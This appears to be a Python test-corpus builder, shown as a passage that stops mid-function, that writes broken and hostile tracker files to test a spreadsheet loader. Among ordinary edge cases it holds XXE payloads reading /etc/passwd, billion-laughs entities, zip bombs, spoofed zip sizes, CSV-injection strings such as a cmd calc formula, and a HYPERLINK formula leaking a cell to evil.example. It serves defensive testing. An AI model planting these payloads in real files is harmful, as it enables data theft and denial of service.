"""Builders of bad, broken and hostile tracker files (the corpus of ``cases.py``).

Each ``b_*`` function writes one file at the path it is given; ``write_xlsx``
and ``write_ole2`` are hand-made writers for what openpyxl cannot produce
(formula cached values, the 1904 date system, hostile XML, compound files).
The catalogue of cases with their expected outcome is in
:mod:`bad_inputs.cases`. Files are built on demand (tests write them into
``tmp_path``); nothing big is committed.

Run ``python tests/bad_inputs/make_corpus.py OUTDIR`` to write every file for a
look by hand (``--with-slow`` adds the 300,000-row sheet and the zip bombs).
"""

from __future__ import annotations

import csv
import io
import os
import random
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from datetime import datetime
from pathlib import Path
from xml.sax.saxutils import escape

# --- shared content -------------------------------------------------------

HEADER = ["Company", "Job Title", "Date Applied", "Status", "Reply Date", "Notes"]
#: A small tracker: 5 applications, 3 replies (one is a rejection).
ROWS = [
    ["Acme Corp", "Data Analyst", "2025-03-01", "Rejected", "2025-03-05", "via site"],
    ["Globex", "Data Scientist", "2025-03-03", "Applied", "", ""],
    ["Initech", "BI Developer", "2025-03-10", "Interview", "2025-03-14", "referral"],
    ["Umbrella", "Analyst", "2025-04-02", "Ghosted", "", ""],
    ["Hooli", "ML Engineer", "2025-04-15", "Offer", "2025-04-20", ""],
]


def _d(text: str) -> datetime:
    return datetime.strptime(text, "%Y-%m-%d")


def _typed(rows: list[list[str]]) -> list[list[object]]:
    """Rows with date strings as datetimes (how a workbook stores them)."""
    out = []
    for r in rows:
        out.append([_d(v) if i in (2, 4) and v else (v or None) for i, v in enumerate(r)])
    return out


def _write_csv(path: Path, rows: list[list[str]], *, encoding: str = "utf-8", delimiter: str = ",",
               newline: str = "\r\n") -> None:
    buf = io.StringIO()
    csv.writer(buf, delimiter=delimiter, lineterminator=newline).writerows(rows)
    path.write_bytes(buf.getvalue().encode(encoding))


def _openpyxl_book(path: Path, sheets: list[tuple[str, list[list[object]]]],
                   tweak: Callable[[object], None] | None = None) -> None:
    import openpyxl

    wb = openpyxl.Workbook()
    wb.remove(wb.active)
    for name, rows in sheets:
        ws = wb.create_sheet(name)
        for r in rows:
            ws.append(r)
    if tweak is not None:
        tweak(wb)
    wb.save(path)


# --- a hand-made xlsx writer (for what openpyxl cannot write) -------------
# openpyxl cannot store a formula's cached value, and always writes its own
# XML; the hostile cases need exact control over each part.


@dataclass(frozen=True)
class Serial:
    """A date cell: an Excel serial number with a date number format."""

    value: float


@dataclass(frozen=True)
class Formula:
    """A formula with its cached value; ``kind`` is "n", "d" (date) or "str"."""

    formula: str
    cached: object
    kind: str = "n"


@dataclass(frozen=True)
class Err:
    """An error cell such as ``#REF!``."""

    code: str


_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_RNS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PNS = "http://schemas.openxmlformats.org/package/2006/relationships"
_XMLDECL = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'


def _col(i: int) -> str:
    s = ""
    i += 1
    while i:
        i, r = divmod(i - 1, 26)
        s = chr(65 + r) + s
    return s


def _cell(ref: str, v: object) -> str:
    if v is None or v == "":
        return ""
    if isinstance(v, Serial):
        return f'<c r="{ref}" s="1"><v>{v.value}</v></c>'
    if isinstance(v, Err):
        return f'<c r="{ref}" t="e"><v>{escape(v.code)}</v></c>'
    if isinstance(v, Formula):
        f = f"<f>{escape(v.formula)}</f>"
        if v.kind == "str":
            return f'<c r="{ref}" t="str">{f}<v>{escape(str(v.cached))}</v></c>'
        style = ' s="1"' if v.kind == "d" else ""
        return f'<c r="{ref}"{style}>{f}<v>{v.cached}</v></c>'
    if isinstance(v, (int, float)):
        return f'<c r="{ref}"><v>{v}</v></c>'
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{escape(str(v))}</t></is></c>'


def _sheet_xml(rows: list[list[object]], prolog: str = "") -> str:
    body = []
    for i, r in enumerate(rows, start=1):
        cells = "".join(_cell(f"{_col(j)}{i}", v) for j, v in enumerate(r))
        body.append(f'<row r="{i}">{cells}</row>')
    return (f"{_XMLDECL}{prolog}<worksheet xmlns=\"{_NS}\"><sheetData>{''.join(body)}"
            "</sheetData></worksheet>")


def write_xlsx(path: Path, sheets: list[tuple[str, list[list[object]]]], *, date1904: bool = False,
               prolog: str = "", extra: dict[str, bytes] | None = None) -> None:
    """Write a minimal valid xlsx by hand (inline strings, one date style).

    ``prolog`` is inserted before the root of every sheet (hostile DOCTYPEs);
    ``extra`` adds raw members.
    """
    n = len(sheets)
    ct = (f'{_XMLDECL}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
          'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
          '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
          'officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/styles.xml" '
          'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/>'
          + "".join(f'<Override PartName="/xl/worksheets/sheet{i}.xml" ContentType="application/'
                    'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
                    for i in range(1, n + 1))
          + "</Types>")
    rels = (f'{_XMLDECL}<Relationships xmlns="{_PNS}"><Relationship Id="rId1" Type="{_RNS}/'
            'officeDocument" Target="xl/workbook.xml"/></Relationships>')
    pr = '<workbookPr date1904="1"/>' if date1904 else "<workbookPr/>"
    wb = (f'{_XMLDECL}<workbook xmlns="{_NS}" xmlns:r="{_RNS}">{pr}<sheets>'
          + "".join(f'<sheet name="{escape(name)}" sheetId="{i}" r:id="rId{i}"/>'
                    for i, (name, _) in enumerate(sheets, start=1))
          + "</sheets></workbook>")
    wbrels = (f'{_XMLDECL}<Relationships xmlns="{_PNS}">'
              + "".join(f'<Relationship Id="rId{i}" Type="{_RNS}/worksheet" '
                        f'Target="worksheets/sheet{i}.xml"/>' for i in range(1, n + 1))
              + f'<Relationship Id="rId{n + 1}" Type="{_RNS}/styles" Target="styles.xml"/>'
              "</Relationships>")
    styles = (f'{_XMLDECL}<styleSheet xmlns="{_NS}"><fonts count="1"><font><sz val="11"/>'
              '<name val="Calibri"/></font></fonts><fills count="1"><fill><patternFill '
              'patternType="none"/></fill></fills><borders count="1"><border><left/><right/>'
              '<top/><bottom/><diagonal/></border></borders><cellStyleXfs count="1"><xf '
              'numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs><cellXfs '
              'count="2"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/><xf '
              'numFmtId="14" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/>'
              '</cellXfs><cellStyles count="1"><cellStyle name="Normal" xfId="0" builtinId="0"/>'
              '</cellStyles></styleSheet>')
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", ct)
        z.writestr("_rels/.rels", rels)
        z.writestr("xl/workbook.xml", wb)
        z.writestr("xl/_rels/workbook.xml.rels", wbrels)
        z.writestr("xl/styles.xml", styles)
        for i, (_, rows) in enumerate(sheets, start=1):
            z.writestr(f"xl/worksheets/sheet{i}.xml", _sheet_xml(rows, prolog))
        for name, data in (extra or {}).items():
            z.writestr(name, data)


def _serial(text: str, *, epoch: str = "1899-12-30") -> int:
    """Excel serial of a date, computed with datetime (independently of the loader)."""
    return (datetime.strptime(text, "%Y-%m-%d") - datetime.strptime(epoch, "%Y-%m-%d")).days


# --- a hand-made OLE2 compound file ([MS-CFB]) ----------------------------
# olefile is not installed (and only reads); msoffcrypto-tool, which could write
# a real encrypted workbook, is not a dependency. A compound file with the same
# stream names is what every reader (Excel, LibreOffice, calamine) looks at to
# decide "encrypted OOXML" vs "legacy .xls", so the structure is built by hand:
# 512-byte sectors, one FAT sector, a directory, streams >= 4096 bytes so they
# live in the regular FAT (no mini stream needed).

_FREE, _EOC, _FATSECT, _NOSTREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF


def write_ole2(path: Path, streams: dict[str, bytes]) -> None:
    """Write a compound file holding ``streams`` (each padded to >= 4096 bytes)."""
    ss = 512
    datas = [(name, data.ljust(4096, b"\x00")) for name, data in streams.items()]
    n_entries = 1 + len(datas)
    n_dir = -(-n_entries // 4)
    fat = [_FATSECT]
    for i in range(n_dir):
        fat.append(len(fat) + 1 if i + 1 < n_dir else _EOC)
    starts, body = [], b""
    for _, data in datas:
        k = -(-len(data) // ss)
        start = len(fat)
        starts.append(start)
        fat += [start + j + 1 for j in range(k - 1)] + [_EOC]
        body += data.ljust(k * ss, b"\x00")
    assert len(fat) <= ss // 4, "one FAT sector only"
    fat += [_FREE] * (ss // 4 - len(fat))

    def entry(name: str, kind: int, child: int, right: int, start: int, size: int) -> bytes:
        raw = name.encode("utf-16-le") + b"\x00\x00"
        return (raw.ljust(64, b"\x00") + struct.pack("<HBB", len(raw), kind, 1)
                + struct.pack("<III", _NOSTREAM, right, child) + b"\x00" * 16
                + struct.pack("<I", 0) + b"\x00" * 16 + struct.pack("<IQ", start, size))

    # Root's child is entry 1; each stream's right sibling is the next (a valid,
    # if unbalanced, red-black tree: all nodes black).
    dirs = [entry("Root Entry", 5, 1 if datas else _NOSTREAM, _NOSTREAM, _EOC, 0)]
    for i, ((name, data), start) in enumerate(zip(datas, starts, strict=True), start=1):
        right = i + 1 if i < len(datas) else _NOSTREAM
        dirs.append(entry(name, 2, _NOSTREAM, right, start, len(data)))
    empty = b"\x00" * 64 + struct.pack("<HBB", 0, 0, 0) + struct.pack("<III", *[_NOSTREAM] * 3)
    empty = empty.ljust(128, b"\x00")
    dirs += [empty] * (n_dir * 4 - len(dirs))
    header = struct.pack(
        "<8s16sHHHHH6sIIIIIIIII",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"\x00" * 16, 0x3E, 3, 0xFFFE, 9, 6, b"\x00" * 6,
        0, 1, 1, 0, 4096, _EOC, 0, _EOC, 0,
    ) + struct.pack("<109I", 0, *[_FREE] * 108)
    assert len(header) == ss
    path.write_bytes(header + struct.pack(f"<{ss // 4}I", *fat) + b"".join(dirs) + body)


# --- builders ---------------------------------------------------------------


def b_empty(p: Path) -> None:
    p.write_bytes(b"")


def b_header_only(p: Path) -> None:
    _write_csv(p, [HEADER])


def b_blank_lines_only(p: Path) -> None:
    p.write_text("\n\n   \n,,,\n", encoding="utf-8")


def b_empty_sheet(p: Path) -> None:
    _openpyxl_book(p, [("Sheet1", [])])


def b_corrupt_zip(p: Path) -> None:
    rnd = random.Random(1)
    p.write_bytes(b"PK\x03\x04" + bytes(rnd.randrange(256) for _ in range(3000)))


def b_truncated_xlsx(p: Path) -> None:
    buf = io.BytesIO()
    _openpyxl_book(buf, [("Applications", [HEADER, *_typed(ROWS)])])  # type: ignore[arg-type]
    data = buf.getvalue()
    p.write_bytes(data[: len(data) // 2])


def b_xlsx_named_csv(p: Path) -> None:
    _openpyxl_book(p, [("Applications", [HEADER, *_typed(ROWS)])])


def b_csv_named_xlsx(p: Path) -> None:
    _write_csv(p, [HEADER, *ROWS])


def b_legacy_xls(p: Path) -> None:
    # BIFF8 BOF record at the start of the Workbook stream, as Excel 97 writes it.
    write_ole2(p, {"Workbook": bytes.fromhex("0908100000060500bb0dcc07c1000000060000")})


def b_password_xlsx(p: Path) -> None:
    # Agile-encryption version header (4.4) at the start of EncryptionInfo.
    write_ole2(p, {"EncryptionInfo": b"\x04\x00\x04\x00\x40\x00\x00\x00<?xml",
                   "EncryptedPackage": struct.pack("<Q", 5000) + os.urandom(512)})


def b_merged_header(p: Path) -> None:
    rows = [["Job hunt 2025 - keep going!"], [], HEADER, *_typed(ROWS)]

    def tweak(wb: object) -> None:
        ws = wb["Tracker"]  # type: ignore[index]
        ws.merge_cells("A1:F1")
        # Same company, two roles: the company cell merged over both rows, so
        # the second row's cell is empty in the file.
        ws.merge_cells("A6:A7")

    rows[6][0] = None
    _openpyxl_book(p, [("Tracker", rows)], tweak)


def b_duplicated_headers(p: Path) -> None:
    _write_csv(p, [HEADER + ["Notes"], *[r + [f"second note {i}"] for i, r in enumerate(ROWS)]])


def b_header_below_row_20(p: Path) -> None:
    pre = [[f"Instructions line {i}: colour rows green when you get an interview."]
           for i in range(1, 23)]
    _openpyxl_book(p, [("Tracker", [*pre, [], HEADER, *_typed(ROWS)])])


def b_excel_errors(p: Path) -> None:
    rows = [HEADER, *_typed(ROWS)]
    rows.append(["Vandelay", "Analyst", Err("#REF!"), "Applied", None, None])
    rows.append(["#N/A", "Analyst", _d("2025-05-02"), "Applied", None, None])
    rows.append(["Stark", "Engineer", _d("2025-05-03"), Err("#VALUE!"), None, None])
    rows.append(["Wayne", "Engineer", _d("2025-05-04"), "Rejected", Err("#N/A"), None])
    fixed = [[Serial(_serial(v.strftime("%Y-%m-%d"))) if isinstance(v, datetime) else v for v in r]
             for r in rows]
    write_xlsx(p, [("Applications", fixed)])


def b_formulas_cached(p: Path) -> None:
    s = _serial("2025-03-01")
    rows: list[list[object]] = [HEADER]
    rows.append(["Acme Corp", "Analyst", Formula("DATE(2025,3,1)", s, "d"),
                 Formula('IF(E2<>"","Replied","Applied")', "Replied", "str"),
                 Formula("C2+4", s + 4, "d"), None])
    rows.append([Formula('"Glo"&"bex"', "Globex", "str"), "Scientist",
                 Formula("C2+2", s + 2, "d"), "Applied", None, None])
    rows.append(["Initech", "Developer", Formula("C3+7", s + 9, "d"), "Interview",
                 Formula("C4+4", s + 13, "d"), Formula("1+1", 2, "n")])
    write_xlsx(p, [("Applications", rows)])


def b_future_dates(p: Path) -> None:
    _write_csv(p, [HEADER, *ROWS,
                   ["Cyberdyne", "Engineer", "2031-01-15", "Applied", "", "typo"],
                   ["Tyrell", "Engineer", "2030-12-01", "Applied", "", "typo"]])


def b_reply_before_application(p: Path) -> None:
    rows = [r[:] for r in ROWS]
    rows[0][4] = "2025-02-20"  # applied 2025-03-01
    _write_csv(p, [HEADER, *rows])


def b_reply_same_day(p: Path) -> None:
    rows = [r[:] for r in ROWS]
    rows[1][3], rows[1][4] = "Rejected", "2025-03-03"  # applied 2025-03-03
    _write_csv(p, [HEADER, *rows])


def b_dates_without_year(p: Path) -> None:
    _write_csv(p, [HEADER, *ROWS, ["Soylent", "Analyst", "8-Jul", "Applied", "", ""],
                   ["Massive Dynamic", "Analyst", "15-Jul", "Applied", "", ""]])


def b_garbled_dates(p: Path) -> None:
    _write_csv(p, [HEADER, *ROWS, ["Soylent", "Analyst", "8/82019", "Applied", "", ""]])


def b_two_digit_years(p: Path) -> None:
    # The LinkedIn data archive's format: M/D/YY with a 12-hour time.
    rows = [["Application Date", "Contact Email", "Company Name", "Job Title", "Job Url"],
            ["6/18/22, 5:28 AM", "", "Acme Corp", "Data Analyst", "https://x/1"],
            ["6/2/22, 11:05 PM", "", "Globex", "Data Scientist", "https://x/2"],
            ["12/30/22, 9:00 AM", "", "Initech", "BI Developer", "https://x/3"],
            ["7/4/22, 12:15 PM", "", "Hooli", "ML Engineer", "https://x/4"]]
    _write_csv(p, rows)


def b_mixed_md_dm(p: Path) -> None:
    # 25/03 can only be D/M, 03/25 only M/D: the column is inconsistent.
    dates = ["25/03/2025", "03/26/2025", "04/02/2025", "27/04/2025", "05/28/2025"]
    _write_csv(p, [HEADER, *[[*r[:2], d, *r[3:4], "", ""] for r, d in zip(ROWS, dates)]])


def b_date1904(p: Path) -> None:
    rows: list[list[object]] = [HEADER]
    for r in ROWS:
        reply = Serial(_serial(r[4], epoch="1904-01-01")) if r[4] else None
        rows.append([r[0], r[1], Serial(_serial(r[2], epoch="1904-01-01")), r[3], reply, None])
    write_xlsx(p, [("Applications", rows)], date1904=True)


def b_timezones(p: Path) -> None:
    rows = [r[:] for r in ROWS]
    rows[0][2] = "2025-03-01T09:00:00+02:00"
    rows[1][2] = "2025-03-03T00:30:00+02:00"  # 2025-03-02 in UTC: the local day must win
    rows[2][2] = "2025-03-10T23:30:00-05:00"  # 2025-03-11 in UTC
    rows[3][2] = "2025-04-02T12:00:00Z"
    rows[4][2] = "2025-04-15T08:00:00+00:00"
    _write_csv(p, [HEADER, *rows])


NONASCII = ["Société Générale", "Müller – Consulting", "Łódź Analytics", "東京データ", "Zoë's Café"]


def b_cp1252(p: Path) -> None:
    rows = [r[:] for r in ROWS]
    for r, name in zip(rows, NONASCII[:2] + ["Crème Brûlée", "Naïve Bayes", "Señor Data"]):
        r[0] = name
    _write_csv(p, [HEADER, *rows], encoding="cp1252")


def b_latin1(p: Path) -> None:
    rows = [r[:] for r in ROWS]
    for r, name in zip(rows, ["Zürich Re", "Ångström AB", "Øresund", "Façade", "Großbank"]):
        r[0] = name
    _write_csv(p, [HEADER, *rows], encoding="latin-1")


def b_utf16(p: Path) -> None:
    # Excel's "Unicode Text": UTF-16 LE with BOM, tab-separated.
    rows = [r[:] for r in ROWS]
    for r, name in zip(rows, NONASCII):
        r[0] = name
    _write_csv(p, [HEADER, *rows], encoding="utf-16", delimiter="\t")


def b_utf8_bom(p: Path) -> None:
    _write_csv(p, [HEADER, *ROWS], encoding="utf-8-sig")


def b_semicolon_decimal_comma(p: Path) -> None:
    rows = [["Company", "Job Title", "Date Applied", "Status", "Salary", "Notes"],
            ["Acme GmbH", "Analyst", "13.03.2025", "Absage", "55.000,50", "über Website"],
            ["Globex AG", "Data Scientist", "01.04.2025", "Applied", "62.500,00", ""],
            ["Initech SE", "Entwickler", "02.05.2025", "Interview", "48.000,75", "Empfehlung"]]
    _write_csv(p, rows, delimiter=";")


def b_quoted_newlines(p: Path) -> None:
    rows = [r[:] for r in ROWS]
    rows[0][5] = 'Line one\nLine two, with a comma\n"quoted" line three'
    rows[2][5] = "Recruiter: Jane\r\nCall back Monday"
    _write_csv(p, [HEADER, *rows])


LONG_ROWS = 300_000


def b_long_sheet(p: Path) -> None:
    # Written as plain text directly: the csv module is too slow for a quick build.
    # The 1,803 dates are formatted once (strftime per row was most of the build).
    start = datetime(2020, 1, 1).toordinal()
    days = [f"{datetime.fromordinal(start + k):%Y-%m-%d}" for k in range(1803)]
    lines = ["Company,Job Title,Date Applied,Status,Reply Date"]
    statuses = ("Applied", "Rejected", "Interview", "Ghosted")
    for i in range(LONG_ROWS):
        reply = days[i % 1800 + 3] if i % 3 == 0 else ""
        lines.append(f"Company {i % 5000},Role {i % 97},{days[i % 1800]},{statuses[i % 4]},{reply}")
    p.write_text("\n".join(lines) + "\n", encoding="utf-8")


WIDE_COLS = 2_000


def b_wide_sheet(p: Path) -> None:
    import openpyxl

    wb = openpyxl.Workbook(write_only=True)
    ws = wb.create_sheet("Wide")
    extra = [f"Extra {j}" for j in range(WIDE_COLS - len(HEADER))]
    ws.append(HEADER + extra)
    for i, r in enumerate(_typed(ROWS)):
        ws.append(r + [f"v{i}-{j}" if j % 7 == 0 else None for j in range(len(extra))])
    wb.save(p)


def b_hidden_sheet_rows_cols(p: Path) -> None:
    # Visible sheet "2025" holds the 5 applications (one row hidden, the date
    # column hidden); a hidden sheet "Old 2023" holds 8 older ones.
    old = [HEADER] + [[f"Old Co {i}", "Analyst", _d(f"2023-01-{i + 1:02d}"), "Rejected", None,
                       None] for i in range(8)]

    def tweak(wb: object) -> None:
        ws = wb["2025"]  # type: ignore[index]
        ws.row_dimensions[3].hidden = True
        ws.column_dimensions["C"].hidden = True
        wb["Old 2023"].sheet_state = "hidden"  # type: ignore[index]

    _openpyxl_book(p, [("2025", [HEADER, *_typed(ROWS)]), ("Old 2023", old)], tweak)


def b_hidden_rows(p: Path) -> None:
    def tweak(wb: object) -> None:
        ws = wb["Applications"]  # type: ignore[index]
        for r in (2, 4):
            ws.row_dimensions[r].hidden = True

    _openpyxl_book(p, [("Applications", [HEADER, *_typed(ROWS)])], tweak)


def b_duplicates(p: Path) -> None:
    _write_csv(p, [HEADER, *ROWS, ROWS[1][:], ROWS[2][:]])


def b_status_contradicts_dates(p: Path) -> None:
    rows = [r[:] for r in ROWS]
    rows[3][4] = "2025-04-10"  # "Ghosted" but a reply date
    header = HEADER[:5] + ["Interview Date", "Notes"]
    out = [header]
    for r in rows:
        out.append(r[:5] + [""] + r[5:])
    out[2][5] = "2025-03-12"  # "Applied" but an interview date (row 3: Globex)
    _write_csv(p, out)


_XXE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
_LOL = ('<!DOCTYPE lolz [<!ENTITY lol "lol">'
        + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
                  for i in range(1, 10))
        + "]>")


def _entity_rows(ref: str) -> list[list[object]]:
    return [HEADER, [ref, "Analyst", Serial(_serial("2025-03-01")), "Applied", None, None]]


def b_xxe(p: Path) -> None:
    write_xlsx(p, [("Applications", _entity_rows("&e;"))], prolog=_XXE)


def b_billion_laughs(p: Path) -> None:
    write_xlsx(p, [("Applications", _entity_rows("&lol9;"))], prolog=_LOL)


def b_doctype_after_long_comment(p: Path) -> None:
    # Tries to push the DOCTYPE past a naive "first 4 KB" scan.
    write_xlsx(p, [("Applications", _entity_rows("&e;"))],
               prolog="<!--" + "x" * 200_000 + "-->" + _XXE)


def b_doctype_utf16(p: Path) -> None:
    write_xlsx(p, [("Applications", [HEADER])], extra={
        "xl/worksheets/sheet2.xml": (
            '<?xml version="1.0" encoding="UTF-16"?>' + _XXE
            + f'<worksheet xmlns="{_NS}"><sheetData/></worksheet>').encode("utf-16")})


def b_ods_xxe(p: Path) -> None:
    content = ('<?xml version="1.0" encoding="UTF-8"?>' + _XXE
               + '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:'
               'office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
               'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body>'
               '<office:spreadsheet><table:table table:name="S"><table:table-row>'
               '<table:table-cell office:value-type="string"><text:p>&e;</text:p>'
               "</table:table-cell></table:table-row></table:table></office:spreadsheet>"
               "</office:body></office:document-content>")
    with zipfile.ZipFile(p, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet",
                   compress_type=zipfile.ZIP_STORED)
        z.writestr("content.xml", content)


_MIB_OF_ZEROS = b"\x00" * (1 << 20)


class _ZerosDeflater:
    """A raw-deflate compressor for a stream of whole MiBs of zeros.

    The first MiB is deflated and ended with a full flush, which empties the
    compressor's window: every further MiB would deflate to the same bytes, so
    they are repeated instead of computed again (zlib took 1.5 s of CPU to deflate
    the two bombs' 700 MB). The member is still one valid deflate stream of zeros
    with about the same compression ratio, and zipfile still counts its size and CRC.
    """

    def __init__(self, level: int) -> None:
        co = zlib.compressobj(level, zlib.DEFLATED, -15)
        self.block = co.compress(_MIB_OF_ZEROS) + co.flush(zlib.Z_FULL_FLUSH)
        self.end = co.flush(zlib.Z_FINISH)

    def compress(self, data: bytes) -> bytes:
        assert data == _MIB_OF_ZEROS  # only ever whole MiBs of zeros
        return self.block

    def flush(self) -> bytes:
        return self.end


def _zeros_member(z: zipfile.ZipFile, name: str, size: int, level: int) -> None:
    """Stream ``size`` zero bytes (whole MiBs) into a deflated member without holding
    them in memory or deflating each MiB (:class:`_ZerosDeflater`)."""
    assert size % len(_MIB_OF_ZEROS) == 0
    with z.open(name, "w", force_zip64=True) as fh:
        # zipfile's member writer has no public hook for its compressor: this private
        # attribute holds the zlib compressobj it made for the member (Python 3.11-3.13);
        # where it is not, zipfile deflates every MiB itself (slower, same kind of file)
        if type(getattr(fh, "_compressor", None)).__name__ == "Compress":
            fh._compressor = _ZerosDeflater(level)  # type: ignore[attr-defined]
        for _ in range(size // len(_MIB_OF_ZEROS)):
            fh.write(_MIB_OF_ZEROS)


def _bomb(p: Path, size: int, level: int = 6) -> None:
    b_xlsx_named_csv(p)  # a valid workbook, then a huge extra member
    with zipfile.ZipFile(p, "a", zipfile.ZIP_DEFLATED, compresslevel=level) as z:
        _zeros_member(z, "xl/media/image1.bin", size, level)


def b_zip_bomb_total(p: Path) -> None:
    # over the 500 MB total: ~2.7 MB on disk, still ~230x compression. zlib's fastest
    # level: the default level takes 3 s of CPU to deflate 600 MB of zeros, level 1 0.7 s
    _bomb(p, 600 * 1024**2, level=1)


def b_zip_bomb_ratio(p: Path) -> None:
    _bomb(p, 100 * 1024**2)  # under the total, but ~1000x compression


def b_zip_lying_size(p: Path) -> None:
    """A 20 MB sheet whose headers declare 2,000 bytes (to slip under size limits).

    Python's zipfile and calamine's Rust zip crate both stop at the declared
    size and fail; the file must be refused as damaged, never inflated.
    """
    tmp = p.with_suffix(".tmp")
    write_xlsx(tmp, [("Applications", [HEADER])])
    big = (f'<?xml version="1.0"?><worksheet xmlns="{_NS}"><sheetData>'.encode()
           + b" " * (20 * 1024**2) + b"</sheetData></worksheet>")
    name = "xl/worksheets/sheet1.xml"
    with zipfile.ZipFile(tmp) as src, zipfile.ZipFile(p, "w", zipfile.ZIP_DEFLATED) as z:
        for info in src.infolist():
            z.writestr(info.filename, big if info.filename == name else src.read(info))
    tmp.unlink()
    data = bytearray(p.read_bytes())
    # (signature, offset of the uncompressed size, of the name length, of the name)
    for sig, o_size, o_nlen, o_name in ((b"PK\x03\x04", 22, 26, 30), (b"PK\x01\x02", 24, 28, 46)):
        i = data.find(sig)
        while i != -1:
            nlen = struct.unpack_from("<H", data, i + o_nlen)[0]
            if data[i + o_name : i + o_name + nlen] == name.encode():
                struct.pack_into("<I", data, i + o_size, 2000)
            i = data.find(sig, i + 4)
    p.write_bytes(bytes(data))


def b_too_many_members(p: Path) -> None:
    b_xlsx_named_csv(p)
    # appended in memory, then written: zipfile seeks back to each member's header
    # on a real file, three times the time of the same members in a BytesIO
    buf = io.BytesIO(p.read_bytes())
    with zipfile.ZipFile(buf, "a", zipfile.ZIP_STORED) as z:
        for i in range(10_001):
            z.writestr(f"customXml/item{i}.txt", b"x")
    p.write_bytes(buf.getvalue())


def b_nested_zip(p: Path) -> None:
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as z:
        z.writestr("a.txt", b"a" * 100)
    write_xlsx(p, [("Applications", [HEADER])], extra={"xl/payload.bin": inner.getvalue()})


def b_encrypted_member(p: Path) -> None:
    # zipfile cannot encrypt: set the "encrypted" flag bit in the local and
    # central headers of every member, as a ZipCrypto archive has it.
    write_xlsx(p, [("Applications", [HEADER, _entity_rows("Acme")[1]])])
    data = bytearray(p.read_bytes())
    for sig, off in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        i = data.find(sig)
        while i != -1:
            data[i + off] |= 1
            i = data.find(sig, i + 4)
    p.write_bytes(bytes(data))


def b_pdf(p: Path) -> None:
    p.write_bytes(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n")


def b_binary_garbage(p: Path) -> None:
    rnd = random.Random(7)
    p.write_bytes(bytes(rnd.randrange(256) for _ in range(5000)) + b"\x00" * 10)


def b_html_as_xls(p: Path) -> None:
    p.write_text("<html><body><table><tr><td>Company</td><td>Date Applied</td></tr>"
                 "<tr><td>Acme</td><td>2025-03-01</td></tr></table></body></html>",
                 encoding="utf-8")


def b_directory(p: Path) -> None:
    p.mkdir(exist_ok=True)
    (p / "inside.csv").write_text("Company,Date Applied\nAcme,2025-03-01\n", encoding="utf-8")


def b_missing(p: Path) -> None:
    del p  # nothing is written: the path does not exist


def b_no_date_column(p: Path) -> None:
    _write_csv(p, [["Company", "Job Title", "Status", "Notes"],
                   *[[r[0], r[1], r[3], r[5]] for r in ROWS]])


def b_no_header(p: Path) -> None:
    _write_csv(p, [["hello world"], ["this is my shopping list"], ["milk", "eggs"],
                   ["bread", "3"]])


def b_blank_rows_and_total(p: Path) -> None:
    blank = [""] * len(HEADER)
    _write_csv(p, [HEADER, ROWS[0], blank, ROWS[1], ROWS[2], blank, blank, ROWS[3], ROWS[4],
                   blank, ["Total: 5", "", "", "", "", ""]])


def b_missing_applied_date(p: Path) -> None:
    rows = [r[:] for r in ROWS]
    rows[3][2] = ""
    _write_csv(p, [HEADER, *rows])


def b_hyperlink_formula(p: Path) -> None:
    rows = [r[:] for r in ROWS]
    rows[0][0] = '=HYPERLINK("http://x","y")'
    rows[1][5] = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
    _write_csv(p, [HEADER, *rows])


INJECTIONS = ["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+1)", "=1+1"]


def b_csv_injection(p: Path) -> None:
    rows = [r[:] for r in ROWS]
    for r, s in zip(rows, INJECTIONS):
        r[0] = s
    _write_csv(p, [HEADER, *rows])


def b_xlsx_hyperlink_formula(p: Path) -> None:
    rows: list[list[object]] = [HEADER]
    for i, r in enumerate(ROWS):
        company: object = r[0]
        if i == 0:
            company = Formula('HYPERLINK("http://x","y")', "y", "str")
        rows.append([company, r[1], Serial(_serial(r[2])), r[3],
                     Serial(_serial(r[4])) if r[4] else None, None])
    write_xlsx(p, [("Applications", rows)])


def _with_sheet_xml(p: Path, edit: Callable[[str], str]) -> None:
    """Write the base tracker by hand, then edit the sheet XML text."""
    rows: list[list[object]] = [HEADER]
    for r in ROWS:
        rows.append([r[0], r[1], Serial(_serial(r[2])), r[3],
                     Serial(_serial(r[4])) if r[4] else None, None])
    tmp = p.with_suffix(".tmp")
    write_xlsx(tmp, [("Applications", rows)])
    with zipfile.ZipFile(tmp) as src, zipfile.ZipFile(p, "w", zipfile.ZIP_DEFLATED) as z:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = edit(data.decode("utf-8")).encode("utf-8")
